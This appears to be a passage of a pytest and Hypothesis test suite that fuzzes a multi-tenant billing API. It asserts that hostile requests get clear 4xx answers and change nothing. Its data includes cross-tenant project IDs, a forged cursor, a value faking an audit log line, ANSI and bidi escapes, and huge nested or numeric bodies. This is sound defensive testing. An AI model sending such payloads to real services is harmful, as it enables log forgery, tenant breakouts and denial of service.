            "body",
        )
        for method, path, query in GETS_WITHOUT_PROJECT_QUERY
    },
    "valid_to 9999-12-31T23:59:59-14:00": (
        RawCall(
            "POST",
            GRANT,
            headers=JSON_HEADERS,
            body=body_of(GRANT, valid_to="9999-12-31T23:59:59-14:00"),
        ),
        422,
        "valid_to",
    ),
    "valid_to 0001-01-01T00:00:00+14:00": (
        RawCall(
            "POST",
            GRANT,
            headers=JSON_HEADERS,
            body=body_of(GRANT, valid_to="0001-01-01T00:00:00+14:00"),
        ),
        422,
        "valid_to",
    ),
    "since 0001-01-01T00:00:00+14:00": (
        RawCall("GET", REVENUE, [("since", "0001-01-01T00:00:00+14:00")]),
        422,
        "since",
    ),
    "until 9999-12-31T23:59:59-14:00": (
        RawCall("GET", REVENUE, [("until", "9999-12-31T23:59:59-14:00")]),
        422,
        "until",
    ),
    "since 9999-12-31T23:59:59-14:00": (
        RawCall("GET", REVENUE, [("since", "9999-12-31T23:59:59-14:00")]),
        422,
        "since",
    ),
    "forged cursor (the old raw table key)": (
        RawCall(
            "GET",
            AUDIT,
            [
                ("project_id", PROJECT),
                ("user_id", USER),
                ("cursor", "eyJwcm9qZWN0X3VzZXIiOiB7IlMiOiAiNTAyI3ZpY3RpbV81MDIifX0"),
            ],
        ),
        422,
        "cursor",
    ),
    **{
        f"Content-Type {kind} on a POST": (
            RawCall("POST", GRANT, headers={"Content-Type": kind}, body=body_of(GRANT)),
            415,
            "Content-Type",
        )
        for kind in ("text/plain", "application/xml", "image/png", "*/*")
    },
    "a body with no Content-Type": (
        RawCall("POST", GRANT, body=body_of(GRANT)),
        415,
        "Content-Type",
    ),
    "an integer of 4,301 digits": (
        RawCall(
            "POST",
            CHECKOUT,
            headers=JSON_HEADERS,
            body=body_of(CHECKOUT)[:-1] + b', "quantity": ' + b"9" * 4301 + b"}",
        ),
        422,
        "quantity",
    ),
    "the caller's id in the query, another's in the body": (
        RawCall(
            "POST",
            GRANT,
            [("project_id", PROJECT)],
            JSON_HEADERS,
            body_of(GRANT, project_id=int(FOREIGN)),
        ),
        403,
        None,
    ),
    "a multipart form naming another project": (
        RawCall(
            "POST",
            GRANT,
            [("project_id", PROJECT)],
            {"Content-Type": "multipart/form-data; boundary=xyz"},
            MULTIPART,
        ),
        415,
        "Content-Type",
    ),
    "project_id twice in the body": (
        RawCall(
            "POST", GRANT, headers=JSON_HEADERS, body=body_of(GRANT)[:-1] + b', "project_id": 502}'
        ),
        422,
        "project_id",
    ),
    "granted_by with an ANSI escape": (
        RawCall(
            "POST",
            GRANT,
            headers=JSON_HEADERS,
            body=body_of(GRANT, granted_by="ops\x1b[2J\x1b[31m"),
        ),
        422,
        "granted_by",
    ),
    "reason faking an audit line": (
        RawCall(
            "POST",
            GRANT,
            headers=JSON_HEADERS,
            body=body_of(GRANT, reason="ok\n2026-01-01T00:00:00Z grant pro by root: x"),
        ),
        422,
        "reason",
    ),
    "revoked_by with a bidi override": (
        RawCall(
            "POST", REVOKE, headers=JSON_HEADERS, body=body_of(REVOKE, revoked_by="ops\u202eevil")
        ),
        422,
        "revoked_by",
    ),
    "return_url on port 0": (
        RawCall(
            "POST",
            PORTAL,
            headers=JSON_HEADERS,
            body=body_of(PORTAL, return_url="https://app.example.com:0/"),
        ),
        422,
        "return_url",
    ),
    "success_url on port 0": (
        RawCall(
            "POST",
            CHECKOUT,
            headers=JSON_HEADERS,
            body=body_of(CHECKOUT, success_url="https://app.example.com:0/"),
        ),
        422,
        "success_url",
    ),
}


# A later outside probe: these were stored (201) or answered (200).
PROBE_CASES: dict[str, tuple[RawCall, int, str | None]] = {
    **{
        f"grant with Content-Encoding {encoding}": (
            RawCall(
                "POST",
                GRANT,
                headers={**JSON_HEADERS, "Content-Encoding": encoding},
                body=body_of(GRANT),
            ),
            415,
            "Content-Encoding",
        )
        for encoding in ("gzip", "GZIP", "gzip, identity")
    },
    **{
        f"valid_to {valid_to!r}": (
            RawCall("POST", GRANT, headers=JSON_HEADERS, body=body_of(GRANT, valid_to=valid_to)),
            422,
            "valid_to",
        )
        for valid_to in (1900000000, "1900000000", 1900000000.0, "2030-03-17")
    },
    **{
        f"{name}={value}": (RawCall("GET", REVENUE, [(name, value)]), 422, name)
        for name in ("since", "until")
        for value in ("1790000000", "2026-09-21")
    },
}
PROBED = {**ISSUE_CASES, **PROBE_CASES}


@pytest.mark.parametrize(("call", "status", "name"), PROBED.values(), ids=PROBED.keys())
def test_each_case_of_issue_19_is_a_clear_4xx_and_stores_nothing(
    tenants: Tenants, call: RawCall, status: int, name: str | None
) -> None:
    """Each request of the probe behind issue #19 (502s, 500s and 503s then, or a sidestepped
    project check) and of the later outside probe (stored or answered then): now the 4xx that
    says what is wrong, and the tables unchanged."""
    stack = tenants.stack
    before = stored(stack)
    response = call.send(stack, tenants.key)
    assert response.status_code == status, response.text[:300]
    if name is not None:
        assert named(response, name), response.text[:300]
    if status == 403:
        assert response.json() == {"message": "Project ID does not match"}
    assert stored(stack) == before


# ------------------------------------------------------------------ generated hostile input
# Hypothesis draws each class of hostile input (tests/support/hostile.py) and sends it over
# HTTP. Every answer is checked against the OpenAPI document the stack serves (a status it
# lists, never a 5xx) and tallied; each test also checks that nothing was stored. `make soak`
# draws many more examples (BILLING_HOSTILE_EXAMPLES).
HOSTILE_EXAMPLES = int(os.environ.get("BILLING_HOSTILE_EXAMPLES", "25"))
TALLY_FILE = REPO_ROOT / "artifacts" / "test-reports" / "hostile-generated.json"
drawn = settings(
    max_examples=HOSTILE_EXAMPLES,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)


@dataclass
class Tally:
    """Every generated answer by operation and status, and what was wrong with any."""

    statuses: Counter[tuple[str, int]] = field(default_factory=Counter)
    undocumented: list[str] = field(default_factory=list)
    server_errors: list[str] = field(default_factory=list)

    def summary(self) -> dict[str, Any]:
        by_operation: dict[str, dict[str, int]] = {}
        for (operation, status), count in sorted(self.statuses.items()):
            by_operation.setdefault(operation, {})[str(status)] = count
        return {
            "examples_per_test": HOSTILE_EXAMPLES,
            "responses": sum(self.statuses.values()),
            "server_errors": len(self.server_errors),
            "undocumented": len(self.undocumented),
            "by_operation": by_operation,
            "problems": (self.server_errors + self.undocumented)[:50],
        }


TALLY = Tally()


@pytest.fixture(scope="module", autouse=True)
def hostile_tally() -> Iterator[Tally]:
    """Writes the tally of the generated requests when the module is done."""
    yield TALLY
    if TALLY.statuses:
        TALLY_FILE.parent.mkdir(parents=True, exist_ok=True)
        TALLY_FILE.write_text(json.dumps(TALLY.summary(), indent=2) + "\n")


@pytest.fixture(scope="module")
def documented(stack: StackProcess) -> dict[tuple[str, str], set[int]]:
    """(METHOD, path) -> the statuses the served document lists for it."""
    document = requests.get(f"{stack.url}/api/v1/openapi.json", timeout=20).json()
    return {
        (method.upper(), path): {int(status) for status in operation["responses"]}
        for path, item in document["paths"].items()
        for method, operation in item.items()
    }


def answered(
    stack: StackProcess,
    documented: dict[tuple[str, str], set[int]],
    route: ApiRoute,
    call: RawCall,
    key: str | None,
) -> requests.Response:
    """Send ``call`` (a request of ``route``), tally the answer, and fail on a 5xx or on a
    status the document does not list for the route."""
    response = call.send(stack, key)
    operation = route_id(route)
    TALLY.statuses[(operation, response.status_code)] += 1
    asked = f"{operation} {call.query!r:.200} {call.body!r:.200}"
    seen = f"{asked} -> {response.status_code} {response.text[:200]}"
    if response.status_code >= 500:
        TALLY.server_errors.append(seen)
    if response.status_code not in documented[(route.method, route.path)]:
        TALLY.undocumented.append(seen)
    assert response.status_code < 500, seen
    assert response.status_code in documented[(route.method, route.path)], seen
    return response


def call_of(route: ApiRoute, *, body: bytes | None = None, **headers: str) -> RawCall:
    """The route's valid request of project 501, as a RawCall (its body replaced by ``body``
    when given)."""
    valid = valid_call(route, PROJECT)
    query = list(valid.query.items())
    if body is None and valid.body is not None:
        body = json.dumps(valid.body).encode()
    return RawCall(route.method, valid.path, query, {**JSON_HEADERS, **headers}, body)


def expect(response: requests.Response, status: int, name: str | None = None) -> None:
    assert response.status_code == status, response.text[:300]
    if name is not None:
        assert named(response, name), response.text[:300]


CHECKED_ROUTES = [*AUTHENTICATED]
BODY_ROUTES = [route for route in AUTHENTICATED if route.method == "POST"]
PATH_ROUTES = [route for route in AUTHENTICATED if "{project_id}" in route.path]
GET_ROUTES = [route for route in AUTHENTICATED if route.method == "GET"]
WEBHOOK_ROUTE = next(route for route in ROUTES if route.path == WEBHOOK)


def test_generated_json_of_any_depth_is_422_on_every_route(
    tenants: Tenants, documented: dict[tuple[str, str], set[int]]
) -> None:
    """Bodies nested 33 to 200,000 deep (lists, objects, both; closed or not; as the body or
    under project_id or another key), on every route behind the key, GETs included with or
    without project_id in the query (the project check reads their body too): 422 naming the
    body or the key, nothing stored."""
    stack = tenants.stack
    before = stored(stack)

    @drawn
    @given(route=st.sampled_from(CHECKED_ROUTES), text=hostile.nested_json(), bare=st.booleans())
    def example(route: ApiRoute, text: str, bare: bool) -> None:
        call = call_of(route, body=text.encode())
        if bare:  # no project_id in the query: the check has only the body to look at
            call = replace(call, query=[(k, v) for k, v in call.query if k != "project_id"])
        response = answered(stack, documented, route, call, tenants.key)
        expect(response, 422)
        field_named = response.json()["errors"][0]["field"]
        # "body", or the path of keys down to the depth: under project_id, extra, or "a"
        assert field_named.split(".")[0] in ("body", "project_id", "extra", "a"), response.text

    example()
    assert stored(stack) == before


def test_generated_json_of_any_shape_and_size_is_never_a_5xx(
    tenants: Tenants, documented: dict[tuple[str, str], set[int]]
) -> None:
    """Any JSON value as the body of every route behind the key, and objects padded to any
    size up to past API Gateway's 10 MiB: on a POST a 4xx (422 for what fails validation,
    413 over the limit); on a GET, whose body is only checked, a documented answer; never a
    5xx, nothing stored."""
    stack = tenants.stack
    before = stored(stack)
    sizes = st.one_of(st.integers(0, 10_000), st.sampled_from([1 << 20, 9 << 20, (10 << 20) + 1]))

    @settings(drawn, max_examples=max(4, HOSTILE_EXAMPLES // 5))
    @given(route=st.sampled_from(CHECKED_ROUTES), value=hostile.any_json, pad=sizes)
    def example(route: ApiRoute, value: Any, pad: int) -> None:
        body = json.dumps({"pad": "x" * pad, "value": value} if pad else value).encode()
        response = answered(stack, documented, route, call_of(route, body=body), tenants.key)
        if route.method == "POST":  # a GET's body is only checked: the query is the request
            assert response.status_code in (400, 413, 422), response.text[:300]

    example()
    assert stored(stack) == before


def test_generated_numbers_of_any_length_are_422_naming_the_field(
    tenants: Tenants, documented: dict[tuple[str, str], set[int]]
) -> None:
    """Integers of 33 to 10,000 digits (Python's own limit is 4,300), exponents beyond a
    float, NaN and Infinity: in every field of every JSON body (and in a key the route does
    not read), and in the numeric query and path parameters (project_id, limit, since,
    until): 422 naming the field, nothing stored."""
    stack = tenants.stack
    before = stored(stack)
    numeric_query = {"project_id", "limit", "since", "until"}

    @drawn
    @given(route=st.sampled_from(CHECKED_ROUTES), number=hostile.long_numbers(), data=st.data())
    def example(route: ApiRoute, number: str, data: st.DataObject) -> None:
        call = call_of(route)
        if route.method == "POST":
            name = data.draw(st.sampled_from(sorted(fields_of(route) | {"extra"})))
            fields = {k: v for k, v in valid_call(route, PROJECT).body.items() if k != name}
            text = json.dumps(fields)[:-1] + f', "{name}": {number}}}'
            call = RawCall(call.method, call.path, call.query, call.headers, text.encode())
        elif "{project_id}" in route.path and data.draw(st.booleans()):
            name = "project_id"
            call = RawCall("GET", route.path.replace("{project_id}", quote(number)), [], {})
        else:
            names = numeric_query & (set(dict(call.query)) | {"limit", "since", "until"})
            names = {n for n in names if route.path == AUDIT or n != "limit"}
            names = {n for n in names if "/metrics/" in route.path or n not in ("since", "until")}
            name = data.draw(st.sampled_from(sorted(names)))
            query = [(k, v) for k, v in call.query if k != name] + [(name, number)]
            call = RawCall("GET", call.path, query, {})
        expect(answered(stack, documented, route, call, tenants.key), 422, name)

    example()
    assert stored(stack) == before


def test_generated_times_at_the_calendars_and_offsets_edges_are_422_naming_the_field(
    tenants: Tenants, documented: dict[tuple[str, str], set[int]]
) -> None:
    """Grants ending in years 1-1969 or in 9999 with any offset up to +-23:59 (in the past,
    or no time in UTC at all): 422 naming valid_to. Metrics over windows at the calendar's
    edges with any offset: the figures or 422 naming since/until, never an overflow's 500."""
    stack = tenants.stack
    before = stored(stack)
    grant = next(route for route in BODY_ROUTES if route.path == GRANT)

    @drawn
    @given(valid_to=hostile.grant_ends_never_accepted())
    def grant_example(valid_to: str) -> None:
        call = call_of(grant, body=body_of(GRANT, valid_to=valid_to))
        expect(answered(stack, documented, grant, call, tenants.key), 422, "valid_to")

    @drawn
    @given(
        route=st.sampled_from(PATH_ROUTES),
        since=st.none() | hostile.edge_times(),
        until=st.none() | hostile.edge_times(),
    )
    def metrics_example(route: ApiRoute, since: str | None, until: str | None) -> None:
        query = [(n, v) for n, v in (("since", since), ("until", until)) if v is not None]
        call = RawCall("GET", call_of(route).path, query, {})
        response = answered(stack, documented, route, call, tenants.key)
        assert response.status_code in (200, 422), response.text[:300]
        if response.status_code == 422:
            assert named(response, "since") or named(response, "until"), response.text

    grant_example()
    metrics_example()
    assert stored(stack) == before


def test_generated_content_types_other_than_json_are_415_on_every_post_and_body(
    tenants: Tenants, documented: dict[tuple[str, str], set[int]]
) -> None:
    """Any Content-Type but JSON in UTF-8 (random media types and parameters, forms,
    multipart, */*, JSON in another charset), or none, with any body: 415 naming
    Content-Type on every route behind the key (GETs with a body too) and on the webhook."""
    stack = tenants.stack
    before = stored(stack)

    @drawn
    @given(
        route=st.sampled_from([*CHECKED_ROUTES, WEBHOOK_ROUTE]),
        content_type=st.none() | hostile.content_types,
        body=hostile.bodies.filter(bool),
    )
    def example(route: ApiRoute, content_type: str | None, body: bytes) -> None:
        headers = {} if content_type is None else {"Content-Type": content_type}
        if route is WEBHOOK_ROUTE:
            call = RawCall("POST", WEBHOOK, [], headers, body)
        else:
            valid = call_of(route)
            call = RawCall(valid.method, valid.path, valid.query, headers, body)
        key = None if route is WEBHOOK_ROUTE else tenants.key
        expect(answered(stack, documented, route, call, key), 415, "Content-Type")

    example()
    assert stored(stack) == before


def placed(route: ApiRoute, places: list[hostile.Placement]) -> RawCall:
    """The route's valid request of project 501 with ``places`` naming projects too."""
    valid = valid_call(route, PROJECT)
    query = list(valid.query.items())
    body: dict[str, Any] | None = dict(valid.body) if valid.body is not None else None
    path = route.path.replace("{project_id}", PROJECT)
    for place in places:
        if place.position == "path":
            path = route.path.replace("{project_id}", quote(str(place.value), safe=""))
        elif place.position == "query":
            query.append((place.spelling, str(place.value)))
        else:
            body = {**(body or {}), place.spelling: place.value}
    data = None if body is None else json.dumps(body).encode()
    return RawCall(route.method, path, query, JSON_HEADERS if data else {}, data)


def test_generated_project_ids_in_every_position_and_spelling_are_one_rule(
    tenants: Tenants, documented: dict[tuple[str, str], set[int]]
) -> None:
    """One to five places naming a project (path, query parameters repeated or not, top-level
    body keys, GETs with a body too), spelled project_id, projectId, Project-ID..., in every
    form of the id: one of them naming 502 with 501's key is 403 "Project ID does not
    match", on every route; all naming 501 passes the check (the reads answer)."""
    stack = tenants.stack
    before = stored(stack)

    @drawn
    @given(route=st.sampled_from(CHECKED_ROUTES), data=st.data())
    def foreign_example(route: ApiRoute, data: st.DataObject) -> None:
        places = data.draw(hostile.placements(PROJECT, FOREIGN, in_path=route in PATH_ROUTES))
        response = answered(stack, documented, route, placed(route, places), tenants.key)
        assert response.status_code == 403, (places, response.text[:300])
        assert response.json() == {"message": "Project ID does not match"}

    @drawn
    @given(route=st.sampled_from(GET_ROUTES), data=st.data())
    def own_example(route: ApiRoute, data: st.DataObject) -> None:
        places = data.draw(hostile.placements(PROJECT, PROJECT, in_path=route in PATH_ROUTES))
        response = answered(stack, documented, route, placed(route, places), tenants.key)
        assert response.status_code != 403, (places, response.text[:300])

    foreign_example()
    own_example()
    assert stored(stack) == before


@dataclass(frozen=True)
class Cursors:
    """Real cursors: of 501's USER, of 501's OTHER user, and of 502's victim (502's key)."""

    own: str
    other_user: str
    foreign: str


OTHER_USER = "user_hostile_other"


@pytest.fixture(scope="module")
def cursors(tenants: Tenants) -> Cursors:
    stack = tenants.stack
    grant, revoke = (next(r for r in AUTHENTICATED if r.path == p) for p in (GRANT, REVOKE))
    for user in (USER, OTHER_USER):
        for route in (grant, revoke):
            response = valid_call(route, PROJECT, user).send(stack, tenants.key)
            assert response.status_code in (200, 201), response.text

    def first_page(key: str, project: str, user: str) -> str:
        response = requests.get(
            f"{stack.url}{AUDIT}",
            params={"project_id": project, "user_id": user, "limit": "1"},
            headers={"X-API-Key": key},
            timeout=30,
        )
        assert response.status_code == 200, response.text
        cursor = response.json()["next_cursor"]
        assert isinstance(cursor, str)
        return cursor

    return Cursors(
        own=first_page(tenants.key, PROJECT, USER),
        other_user=first_page(tenants.key, PROJECT, OTHER_USER),
        foreign=first_page(tenants.foreign_key, FOREIGN, VICTIM),
    )


def test_generated_cursors_forged_changed_or_replayed_are_422_naming_the_cursor(
    tenants: Tenants, cursors: Cursors, documented: dict[tuple[str, str], set[int]]
) -> None:
    """A real cursor truncated, extended, with any character changed, reversed; made-up ones
    (random text, random base64); another user's or another project's cursor replayed: 422
    naming cursor, never the 503 with Retry-After (retried forever) or the 500 of before.
    The real cursor, for its own user, still pages."""
    stack = tenants.stack
    audit = next(route for route in AUTHENTICATED if route.path == AUDIT)
    before = stored(stack)

    def page(cursor: str, user: str = USER) -> requests.Response:
        query = [("project_id", PROJECT), ("user_id", user), ("limit", "1"), ("cursor", cursor)]
        return answered(stack, documented, audit, RawCall("GET", AUDIT, query), tenants.key)

    @drawn
    @given(cursor=hostile.changed_cursors(cursors.own))
    def changed_example(cursor: str) -> None:
        expect(page(cursor), 422, "cursor")

    @drawn
    @given(
        replay=st.sampled_from(
            [
                (cursors.own, OTHER_USER),
                (cursors.other_user, USER),
                (cursors.foreign, USER),
                (cursors.foreign, VICTIM),
                (cursors.own, VICTIM),
            ]
        )
    )
    def replayed_example(replay: tuple[str, str]) -> None:
        expect(page(*replay), 422, "cursor")

    changed_example()
    replayed_example()
    assert page(cursors.own).status_code == 200
    assert stored(stack) == before


def test_generated_text_with_control_characters_is_422_naming_the_field(
    tenants: Tenants, documented: dict[tuple[str, str], set[int]]
) -> None:
    """granted_by, revoked_by and reason holding any C0/C1 control, DEL, ANSI escape, line
    or paragraph separator, or bidi override: 422 naming the field, nothing stored."""
    stack = tenants.stack
    before = stored(stack)
    routes = [route for route in BODY_ROUTES if route.path in (GRANT, REVOKE)]

    @drawn
    @given(route=st.sampled_from(routes), text=hostile.unreadable_text(), data=st.data())
    def example(route: ApiRoute, text: str, data: st.DataObject) -> None:
        actor = "granted_by" if route.path == GRANT else "revoked_by"
        name = data.draw(st.sampled_from([actor, "reason"]))
        call = call_of(route, body=body_of(route.path, **{name: text}))
        expect(answered(stack, documented, route, call, tenants.key), 422, name)

    example()
    assert stored(stack) == before


def test_generated_invalid_ports_in_return_urls_are_422_naming_the_field(
    tenants: Tenants, documented: dict[tuple[str, str], set[int]]
) -> None:
    """The project's own origin on port 0, 65536 and beyond, signed, hex, spaced or
    non-numeric ports: 422 naming success_url, cancel_url or return_url; nothing stored."""
    stack = tenants.stack
    before = stored(stack)
    routes = [
        (route, name) for route in BODY_ROUTES for name in fields_of(route) if name.endswith("_url")
    ]

    @drawn
    @given(target=st.sampled_from(routes), port=hostile.invalid_ports)
    def example(target: tuple[ApiRoute, str], port: str) -> None:
        route, name = target
        url = f"{ORIGIN}:{port}/ok"
        call = call_of(route, body=body_of(route.path, **{name: url}))
        expect(answered(stack, documented, route, call, tenants.key), 422, name)

    example()
    assert stored(stack) == before


def test_an_api_cursor_pages_in_billing_admin_too(tenants: Tenants, cursors: Cursors) -> None:
    """The local stack's generated key is in moto's SSM as well, where billing-admin reads it
    (as it reads a deployed stack's parameter): one key, so the API's cursor pages in the CLI
    and the CLI's next cursor in the API."""
    stack = tenants.stack
    page = stack.admin("audit", "--project", PROJECT, "--user", USER, "--limit", "1")
    assert page["next_cursor"] == cursors.own  # sealing is deterministic: the same position
    rest = stack.admin(
        "audit", "--project", PROJECT, "--user", USER, "--limit", "1", "--cursor", cursors.own
    )
    assert [item["action"] for item in rest["items"]] == ["grant"]
    api = requests.get(
        f"{stack.url}{AUDIT}",
        params={
            "project_id": PROJECT,
            "user_id": USER,
            "limit": "1",
            "cursor": page["next_cursor"],
        },
        headers={"X-API-Key": tenants.key},
        timeout=30,
    )
    assert api.status_code == 200 and api.json()["items"] == rest["items"]
